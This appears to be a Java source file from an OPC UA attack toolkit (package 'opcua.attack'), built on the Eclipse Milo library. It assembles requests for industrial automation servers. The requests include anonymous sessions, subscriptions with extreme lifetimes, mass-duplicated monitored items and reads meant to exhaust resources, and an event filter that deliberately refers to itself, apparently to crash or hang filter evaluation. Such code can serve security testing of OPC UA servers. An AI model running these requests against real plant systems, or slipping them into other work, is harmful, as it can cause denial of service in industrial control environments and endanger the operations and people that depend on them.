package dev.anodyne.opcua.attack;

import static org.eclipse.milo.opcua.stack.core.types.builtin.unsigned.Unsigned.ubyte;
import static org.eclipse.milo.opcua.stack.core.types.builtin.unsigned.Unsigned.uint;

import java.util.Collections;
import org.eclipse.milo.opcua.stack.core.AttributeId;
import org.eclipse.milo.opcua.stack.core.NodeIds;
import org.eclipse.milo.opcua.stack.core.encoding.DefaultEncodingContext;
import org.eclipse.milo.opcua.stack.core.types.UaStructuredType;
import org.eclipse.milo.opcua.stack.core.types.builtin.ByteString;
import org.eclipse.milo.opcua.stack.core.types.builtin.DataValue;
import org.eclipse.milo.opcua.stack.core.types.builtin.DateTime;
import org.eclipse.milo.opcua.stack.core.types.builtin.ExtensionObject;
import org.eclipse.milo.opcua.stack.core.types.builtin.LocalizedText;
import org.eclipse.milo.opcua.stack.core.types.builtin.NodeId;
import org.eclipse.milo.opcua.stack.core.types.builtin.QualifiedName;
import org.eclipse.milo.opcua.stack.core.types.builtin.Variant;
import org.eclipse.milo.opcua.stack.core.types.builtin.unsigned.UInteger;
import org.eclipse.milo.opcua.stack.core.types.enumerated.ApplicationType;
import org.eclipse.milo.opcua.stack.core.types.enumerated.BrowseDirection;
import org.eclipse.milo.opcua.stack.core.types.enumerated.FilterOperator;
import org.eclipse.milo.opcua.stack.core.types.enumerated.MonitoringMode;
import org.eclipse.milo.opcua.stack.core.types.enumerated.TimestampsToReturn;
import org.eclipse.milo.opcua.stack.core.types.structured.*;

/** Sound requests, to begin with. */
final class Requests {
  private static final UInteger ZERO = uint(0);

  private Requests() {}

  static RequestHeader header(NodeId session) {
    return new RequestHeader(session, DateTime.now(), uint(1), ZERO, null, uint(10_000), null);
  }

  static ExtensionObject encoded(UaStructuredType structure) {
    return ExtensionObject.encode(DefaultEncodingContext.INSTANCE, structure);
  }

  /** A session that is forgotten after the shortest time. */
  static CreateSessionRequest create(String url) {
    return new CreateSessionRequest(
        header(NodeId.NULL_VALUE),
        new ApplicationDescription(
            "urn:attack",
            "urn:attack",
            LocalizedText.english("attack"),
            ApplicationType.Client,
            null,
            null,
            null),
        null,
        url,
        "attack",
        ByteString.of(new byte[32]),
        ByteString.NULL_VALUE,
        5000.0,
        ZERO);
  }

  static ExtensionObject nobody() {
    return encoded(new AnonymousIdentityToken("anonymous"));
  }

  static ActivateSessionRequest activate(NodeId session, ExtensionObject identity) {
    return new ActivateSessionRequest(
        header(session),
        new SignatureData(null, null),
        null,
        null,
        identity,
        new SignatureData(null, null));
  }

  static CloseSessionRequest close(NodeId session, boolean deleteSubscriptions) {
    return new CloseSessionRequest(header(session), deleteSubscriptions);
  }

  /** A subscription that lives as long as it can get. */
  static CreateSubscriptionRequest subscribe(NodeId session) {
    return new CreateSubscriptionRequest(
        header(session), 1000.0, uint(1_000_000), uint(300_000), ZERO, true, ubyte(0));
  }

  static CreateMonitoredItemsRequest monitor(
      NodeId session, UInteger subscription, NodeId node, int count, long queue) {
    return new CreateMonitoredItemsRequest(
        header(session),
        subscription,
        TimestampsToReturn.Both,
        Collections.nCopies(
                count,
                item(
                    node,
                    AttributeId.Value,
                    new MonitoringParameters(uint(1), 100.0, null, uint(queue), true)))
            .toArray(MonitoredItemCreateRequest[]::new));
  }

  /** Watches a node's events with a condition that refers to itself. */
  static CreateMonitoredItemsRequest selfReferringFilter(NodeId session, UInteger subscription) {
    ContentFilterElement self =
        new ContentFilterElement(
            FilterOperator.Not, new ExtensionObject[] {encoded(new ElementOperand(ZERO))});
    return new CreateMonitoredItemsRequest(
        header(session),
        subscription,
        TimestampsToReturn.Both,
        new MonitoredItemCreateRequest[] {
          item(
              NodeIds.Server,
              AttributeId.EventNotifier,
              new MonitoringParameters(
                  uint(1),
                  0.0,
                  encoded(
                      new EventFilter(
                          new SimpleAttributeOperand[0],
                          new ContentFilter(new ContentFilterElement[] {self}))),
                  uint(10),
                  true))
        });
  }

  private static MonitoredItemCreateRequest item(
      NodeId node, AttributeId attribute, MonitoringParameters parameters) {
    return new MonitoredItemCreateRequest(
        new ReadValueId(node, attribute.uid(), null, QualifiedName.NULL_VALUE),
        MonitoringMode.Reporting,
        parameters);
  }

  static PublishRequest publish(NodeId session) {
    return new PublishRequest(header(session), null);
  }

  static ReadRequest read(NodeId session, NodeId node, int count) {
    return new ReadRequest(
        header(session),
        0.0,
        TimestampsToReturn.Both,
        Collections.nCopies(
                count,
                new ReadValueId(node, AttributeId.Value.uid(), null, QualifiedName.NULL_VALUE))
            .toArray(ReadValueId[]::new));
  }

  static WriteRequest write(NodeId session, NodeId node, Variant value) {
    return new WriteRequest(
        header(session),
        new WriteValue[] {
          new WriteValue(node, AttributeId.Value.uid(), null, DataValue.valueOnly(value))
        });
  }

  static CallRequest call(NodeId session, NodeId object, NodeId method, Variant... inputs) {
    return new CallRequest(
        header(session), new CallMethodRequest[] {new CallMethodRequest(object, method, inputs)});
  }

  static BrowseRequest browse(NodeId session, NodeId... nodes) {
    BrowseDescription[] wanted = new BrowseDescription[nodes.length];
    for (int i = 0; i < nodes.length; i++) {
      wanted[i] =
          new BrowseDescription(
              nodes[i],
              BrowseDirection.Forward,
              NodeIds.HierarchicalReferences,
              true,
              ZERO,
              uint(63));
    }
    return new BrowseRequest(
        header(session),
        new ViewDescription(NodeId.NULL_VALUE, DateTime.NULL_VALUE, ZERO),
        ZERO,
        wanted);
  }

  static HistoryReadRequest history(NodeId session, NodeId node) {
    DateTime now = DateTime.now();
    return new HistoryReadRequest(
        header(session),
        encoded(
            new ReadRawModifiedDetails(
                false, new DateTime(now.getUtcTime() - 600_000_000L), now, uint(100), false)),
        TimestampsToReturn.Both,
        false,
        new HistoryReadValueId[] {
          new HistoryReadValueId(node, null, QualifiedName.NULL_VALUE, ByteString.NULL_VALUE)
        });
  }
}
